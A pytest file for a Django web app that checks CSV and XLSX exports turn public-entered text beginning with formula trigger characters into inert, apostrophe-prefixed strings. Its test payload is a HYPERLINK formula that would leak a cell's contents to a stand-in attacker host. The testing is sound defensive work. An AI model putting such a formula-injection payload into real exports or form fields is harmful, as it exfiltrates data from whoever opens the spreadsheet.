"""Every CSV/XLSX export writes text typed by the public as inert text, never as a live formula.

For each export, a public field is set to a formula payload starting with each of = + - @ tab CR; the
downloaded file must hold it as text prefixed with an apostrophe (XLSX: a string cell, not a formula).
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from helix.academy import domain as academy_domain
from helix.events.models import Answer
from tests.factories import OrganisationFactory, PersonFactory, UserFactory
from tests.factories.academy import CohortFactory
from tests.factories.events import EventFactory
from tests.factories.events_extra import QuestionFactory, RegistrationFactory
from tests.factories.wheel import MeetingRequestFactory, ParticipantFactory, WheelFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = 'HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def _directory_organisations(payload, fmt):
    OrganisationFactory(name=payload, description=payload)
    return reverse("transfer:export_organisations", args=[fmt])


def _directory_people(payload, fmt):
    PersonFactory(first_name=payload, bio=payload)
    return reverse("transfer:export_people", args=[fmt])


def _event_registrations(payload, fmt):
    event = EventFactory()
    registration = RegistrationFactory(event=event, name=payload)
    Answer.objects.create(registration=registration, question=QuestionFactory(event=event), value=payload)
    return reverse("events:export", args=[event.slug, "registrations", fmt])


def _wheel_participants(payload, fmt):
    participant = ParticipantFactory(organisation__name=payload, seeks=payload, offers=payload)
    return reverse("wheel:export_table", args=[participant.wheel.pk, "participants", fmt])


def _wheel_requests(payload, fmt):
    wheel = WheelFactory()
    MeetingRequestFactory(
        wheel=wheel,
        from_participant=ParticipantFactory(wheel=wheel, organisation__name=payload),
        to_participant=ParticipantFactory(wheel=wheel, side="supplier"),
    )
    return reverse("wheel:export_table", args=[wheel.pk, "requests", fmt])


def _cohort_enrolments(payload, fmt):
    cohort = CohortFactory()
    academy_domain.enrol(
        cohort=cohort, person=PersonFactory(first_name=payload, last_name="Soto"), actor=UserFactory(is_staff=True)
    )
    return reverse("academy:export", args=[cohort.pk, "enrolments", fmt])


EXPORTS = [
    _directory_organisations,
    _directory_people,
    _event_registrations,
    _wheel_participants,
    _wheel_requests,
    _cohort_enrolments,
]


def _cells(response, fmt: str) -> list:
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active  # not read-only: formulas would show as data_type "f"
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("export", EXPORTS, ids=lambda f: f.__name__.strip("_"))
def test_text_typed_by_the_public_is_never_a_live_formula(staff_client, export, trigger, fmt):
    payload = trigger + FORMULA
    response = staff_client.get(export(payload, fmt))
    assert response.status_code == 200
    assert (
        response["Content-Disposition"].startswith('attachment; filename="')
        and f'.{fmt}"' in response["Content-Disposition"]
    )
    cells = _cells(response, fmt)
    carrying = [c for c in cells if isinstance(c, str) and FORMULA in c]
    assert carrying, "the payload must reach the file"
    assert not [c for c in cells if isinstance(c, str) and c.startswith(tuple(TRIGGERS))]
    if not (export is _cohort_enrolments and trigger.isspace()):  # a full name is stripped of blanks
        assert any(c.startswith("'" + payload) for c in carrying)


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    from helix.core.tabular import neutralise

    assert [neutralise(v) for v in (-5, 2.5, 0)] == [-5, 2.5, 0]
    assert neutralise("-5") == "'-5" and neutralise("Ñandú") == "Ñandú" and neutralise(None) == ""


def test_xlsx_numbers_are_number_cells(staff_client):
    from helix.core.tabular.export import xlsx_stream

    body = b"".join(xlsx_stream(["n", "text"], [[-3, "-3"], [1.5, "=1+1"]], title="a/b:c"))
    book = load_workbook(io.BytesIO(body))
    sheet = book.active
    assert sheet.title == "a b c"
    assert [(c.value, c.data_type) for c in sheet["A"]][1:] == [(-3, "n"), (1.5, "n")]
    assert [(c.value, c.data_type) for c in sheet["B"]][1:] == [("'-3", "s"), ("'=1+1", "s")]
